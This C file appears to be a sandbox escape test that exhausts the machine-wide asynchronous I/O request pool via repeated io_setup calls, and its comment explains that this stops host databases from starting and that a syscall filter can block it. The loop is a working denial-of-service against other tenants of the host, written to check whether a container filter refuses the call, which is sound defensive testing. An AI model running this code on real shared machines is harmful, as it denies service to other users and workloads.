/**
 * @file
 * @brief iosetup: asynchronous input and output is used up, for everybody.
 *
 * io_setup(2) makes a queue for so many requests, and fs.aio-max-nr says how
 * many there may be in all queues of the machine: no user, no cgroup and no
 * namespace has a share of its own. With them gone, databases of the host do
 * not start. Few programs use these calls, and a filter can refuse them.
 */
#include <linux/aio_abi.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(iosetup)
{
    long requests = 0;

    for (unsigned many = 16384; many > 0;) {
        aio_context_t queue = 0;

        if (syscall(SYS_io_setup, many, &queue) == 0)
            requests += many;
        else
            many /= 2;
    }
    printf("%ld requests\n", requests);
    return requests == 0 ? stopped("io_setup") : linger();
}
